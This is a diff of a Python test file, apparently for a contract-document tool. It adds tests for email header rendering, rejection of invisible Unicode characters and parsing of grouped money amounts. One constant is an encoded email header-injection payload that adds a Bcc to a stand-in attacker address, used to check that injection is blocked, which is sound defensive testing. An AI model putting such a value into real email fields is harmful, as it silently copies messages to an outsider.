@@ -3,17 +3,21 @@
 from __future__ import annotations
 
 import email
+import unicodedata
 from datetime import date
+from decimal import Decimal
 from email import policy
 from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
+import pytest
 from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from contractkit.cli import main
+from contractkit.money import parse_amount
 from contractkit.render.eml import Attachment, Mailbox, render_eml
 
 INJECT = "=?utf-8?q?x=0D=0ABcc:_spy@attacker.example?="
@@ -83,7 +87,8 @@ def test_eml_headers_read_back_as_written(name: str, subject: str, filename: str
     msg = parsed(data)
     no_injected_header(msg)
     assert msg["Subject"] == " ".join(subject.split())
-    assert [a.get_filename() for a in msg.iter_attachments()] == [" ".join(filename.split())]
+    names = [a["Content-Disposition"].params["filename"] for a in msg.iter_attachments()]
+    assert names == [" ".join(filename.split())]  # get_filename() would strip quotes
     shown = msg["To"].addresses[0].display_name
     assert "".join(shown.split()) == "".join(name.split())
 
@@ -98,3 +103,74 @@ def test_eml_plain_headers_are_written_as_they_are() -> None:
     )
     assert b"\r\nSubject: Website redesign: a quick question\r\n" in data
     assert data.startswith(b"From: Ann Lee <ann@example.com>\r\nTo: Bob <bob@example.com>\r\n")
+
+
+# --- 5. invisible characters, found by what Unicode says of them -------------------------
+
+INVISIBLE = [0x2061, 0x034F, 0xFE0F, 0xFFF9, 0x061C, 0x3164, 0x115F, 0x180E, 0xE0041, 0xE0001]
+
+
+@pytest.mark.parametrize("cp", INVISIBLE, ids=[f"U+{c:04X}" for c in INVISIBLE])
+def test_invisible_characters_are_refused(cp: int, write_job: Any) -> None:
+    job = write_job(**{"project.title": f"Website {chr(cp)}redesign"})
+    result = run("build", str(job), "--format", "docx")
+    assert result.exit_code == 2, result.output
+    assert f"project.title: contains the invisible character U+{cp:04X}" in result.output
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.characters(exclude_characters="\t\n"))
+def test_no_default_ignorable_or_format_character_is_accepted(ch: str) -> None:
+    from contractkit.job.values import check_visible
+
+    cp = ord(ch)
+    ignorable = (
+        unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
+        or 0xFE00 <= cp <= 0xFE0F
+        or 0xE0000 <= cp <= 0xE0FFF
+        or cp in {0x034F, 0x115F, 0x1160, 0x3164, 0xFFA0, 0x180B, 0x180C, 0x180D}
+    )
+    if ignorable:
+        with pytest.raises(ValueError):
+            check_visible(ch)
+
+
+def test_letters_of_every_language_pass() -> None:
+    from contractkit.job.values import check_visible
+
+    text = "Ąę Łódź Åsa Öberg Győr őű ქართული ენა «»“” €\u00a0\u202f–\tline\nnext"
+    assert check_visible(text) == text
+
+
+# --- 6. amounts with malformed grouping ------------------------------------------------
+
+
+@pytest.mark.parametrize("typed", ["1.2,3", "1,2.3", "12,34.5", "1.23,4.5"])
+def test_malformed_grouping_is_refused(typed: str) -> None:
+    with pytest.raises(ValueError, match="groups of three"):
+        parse_amount(typed)
+
+
+@given(
+    whole=st.integers(min_value=0, max_value=10**11),
+    cents=st.integers(min_value=0, max_value=99),
+    style=st.sampled_from([(",", "."), (".", ","), (" ", ","), ("\u00a0", ".")]),
+)
+def test_grouped_amounts_read_back_exactly(whole: int, cents: int, style: tuple[str, str]) -> None:
+    group, point = style
+    typed = f"{whole:,}".replace(",", group) + point + f"{cents:02d}"
+    assert parse_amount(typed) == Decimal(f"{whole}.{cents:02d}")
+
+
+@given(st.text(st.sampled_from("0123456789.,"), min_size=1, max_size=12))
+def test_any_amount_read_is_the_only_reading(typed: str) -> None:
+    """Whatever is accepted has its separators where grouping or a decimal point can be."""
+    try:
+        value = parse_amount(typed)
+    except ValueError:
+        return
+    if "," in typed and "." in typed:
+        point = max(typed.rfind(","), typed.rfind("."))
+        groups = typed[:point].replace(",", ".").split(".")
+        assert all(len(g) == 3 for g in groups[1:]) and 1 <= len(groups[0]) <= 3
+    assert abs(value) < 10**12
